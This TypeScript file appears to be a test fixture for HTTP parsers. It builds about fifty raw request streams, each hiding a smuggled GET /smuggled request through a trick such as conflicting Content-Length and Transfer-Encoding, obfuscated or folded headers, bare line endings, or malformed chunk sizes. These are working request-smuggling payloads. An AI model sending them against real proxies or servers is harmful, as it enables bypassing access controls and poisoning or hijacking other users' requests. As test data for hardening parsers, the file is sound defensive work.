// What attackers send to make a proxy and the server behind it see different requests: each hides a request for /smuggled where
// a lenient reader would find it.

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: a.test\r\n\r\n'
const HOST = 'Host: a.test\r\n'
// Its chunked reading ends at once, its sized one takes the smuggled request along.
const EMPTY_CHUNKED = `0\r\n\r\n${SMUGGLED}`

function post(fields: readonly string[], body: string): string {
  return `POST /outer HTTP/1.1\r\n${HOST}${fields.map((field) => `${field}\r\n`).join('')}\r\n${body}`
}

function sized(...fields: readonly string[]): string {
  return post([...fields, `Content-Length: ${EMPTY_CHUNKED.length}`], EMPTY_CHUNKED)
}

function chunked(body: string): string {
  return post(['Transfer-Encoding: chunked'], body)
}

const hex = (text: string): string => text.length.toString(16)

/** By what they do. */
export const HOSTILE_STREAMS: Readonly<Record<string, string>> = {
  'hides a request in a sized body': post([`Content-Length: ${SMUGGLED.length}`], SMUGGLED),
  'hides a request in a chunk': chunked(`${hex(SMUGGLED)}\r\n${SMUGGLED}\r\n0\r\n\r\n`),
  'hides a request in the trailer': chunked(`0\r\nX-A: b\r\n${SMUGGLED}`),
  'hides a request in a chunk extension': chunked(`1;a="\r\n${SMUGGLED}"\r\nx\r\n0\r\n\r\n`),
  'hides a request behind a body that GET does not have': `GET /outer HTTP/1.1\r\n${HOST}Content-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  'hides a request behind a body that HEAD does not have': `HEAD /outer HTTP/1.1\r\n${HOST}Content-Length: ${SMUGGLED.length}\r\n\r\n${SMUGGLED}`,
  'hides a request behind an expectation': post(
    ['Expect: 100-continue', `Content-Length: ${SMUGGLED.length}`],
    SMUGGLED,
  ),
  'hides a request behind an expectation that is not met': post(
    ['Expect: the-unexpected', `Content-Length: ${SMUGGLED.length}`],
    SMUGGLED,
  ),
  'hides a request behind an upgrade': post(
    ['Connection: Upgrade', 'Upgrade: smuggling', `Content-Length: ${SMUGGLED.length}`],
    SMUGGLED,
  ),
  'hides a request behind a header that is dropped': post(
    ['Content_Length: 0', `Content-Length: ${SMUGGLED.length}`],
    SMUGGLED,
  ),
  'names Content-Length in Connection': post(
    ['Connection: Content-Length', `Content-Length: ${SMUGGLED.length}`],
    SMUGGLED,
  ),
  'names Transfer-Encoding in Connection': post(
    ['Connection: Transfer-Encoding', 'Transfer-Encoding: chunked'],
    `${hex(SMUGGLED)}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
  ),
  'has both a length and chunks': sized('Transfer-Encoding: chunked'),
  'has a coding that ends with a tab': sized('Transfer-Encoding: chunked\t'),
  'has a coding behind a vertical tab': sized('Transfer-Encoding: \x0bchunked'),
  'has a coding behind a space before the colon': sized('Transfer-Encoding : chunked'),
  'has a coding on a folded line': sized('Transfer-Encoding:\r\n chunked'),
  'has a folded line of another field that looks like a coding': sized(
    'X-A: b\r\n Transfer-Encoding: chunked',
  ),
  'has a coding in quotes': sized('Transfer-Encoding: "chunked"'),
  'has an empty element before the coding': sized('Transfer-Encoding: , chunked'),
  'has a parameter behind the coding': sized('Transfer-Encoding: chunked;q=1'),
  'has an unknown coding': sized('Transfer-Encoding: xchunked'),
  'has identity and chunked': sized('Transfer-Encoding: identity, chunked'),
  'has two codings in two fields': sized('Transfer-Encoding: chunked', 'Transfer-Encoding: identity'),
  'has a coding with an underscore': sized('Transfer_Encoding: chunked'),
  'has a coding behind a bare LF': sized('X-A: b\nTransfer-Encoding: chunked'),
  'has a coding behind a bare CR': sized('X-A: b\rTransfer-Encoding: chunked'),
  'has a coding behind NUL': sized('X-A: b\0Transfer-Encoding: chunked'),
  'has a coding on the first line, folded': `POST /outer HTTP/1.1\r\n Transfer-Encoding: chunked\r\n${HOST}Content-Length: ${EMPTY_CHUNKED.length}\r\n\r\n${EMPTY_CHUNKED}`,
  'has a coding in HTTP/1.0': `POST /outer HTTP/1.0\r\n${HOST}Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n${EMPTY_CHUNKED}`,
  'has two lengths': post([`Content-Length: ${SMUGGLED.length}`, 'Content-Length: 0'], SMUGGLED),
  'has two lengths in a list': post([`Content-Length: ${SMUGGLED.length}, 0`], SMUGGLED),
  'has a length with a sign': post([`Content-Length: +${SMUGGLED.length}`], SMUGGLED),
  'has a length with a fraction': post([`Content-Length: ${SMUGGLED.length}.0`], SMUGGLED),
  'has a length behind a vertical tab': post([`Content-Length: \x0b${SMUGGLED.length}`], SMUGGLED),
  'has a length whose sum overflows': post([`Content-Length: 18446744073709551616`], SMUGGLED),
  'has a chunk size whose sum overflows': chunked(`10000000000000000\r\n${SMUGGLED}\r\n0\r\n\r\n`),
  'has a chunk size with 0x': chunked(`0x0\r\n\r\n${SMUGGLED}`),
  'has a chunk size with a sign': chunked(`+0\r\n\r\n${SMUGGLED}`),
  'has a chunk size with a space behind it': chunked(`${hex(SMUGGLED)} \r\n${SMUGGLED}\r\n0\r\n\r\n`),
  'has a chunk size that ends with LF': chunked(`1;\nx${SMUGGLED}\r\n0\r\n\r\n`),
  'has chunk data that ends with LF': chunked(`1\r\nx\n0\r\n\r\n${SMUGGLED}`),
  'has chunk data that ends with two other bytes': chunked(`1\r\nxYZ0\r\n\r\n${SMUGGLED}`),
  'has a last chunk that ends with LF': chunked(`0\n\n${SMUGGLED}`),
  'has a trailer that names the length': chunked(`0\r\nContent-Length: ${SMUGGLED.length}\r\n\r\n`),
  'ends a head with LF LF': `POST /outer HTTP/1.1\r\n${HOST}Content-Length: 0\n\n${SMUGGLED}`,
  'ends a head with CR LF LF': `POST /outer HTTP/1.1\r\n${HOST}Content-Length: 0\r\n\n${SMUGGLED}`,
  'ends a head with a bare CR': `GET /outer HTTP/1.1\r\n${HOST}\r\r${SMUGGLED}`,
  'has a request line within a target': `GET /outer HTTP/1.1%0d%0a${HOST}\r\n${SMUGGLED}`,
  'has a line break in an absolute target': `GET http://a.test/\x0bGET HTTP/1.1\r\n${HOST}\r\n${SMUGGLED}`,
  'has another version': `POST /outer HTTP/1.2\r\n${HOST}Content-Length: ${EMPTY_CHUNKED.length}\r\nTransfer-Encoding: chunked\r\n\r\n${EMPTY_CHUNKED}`,
  'asks without a version': `GET /outer\r\n${SMUGGLED}`,
  'has a preface of HTTP/2': `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${SMUGGLED}`,
  'has a PROXY protocol header': `PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n${SMUGGLED}`,
}
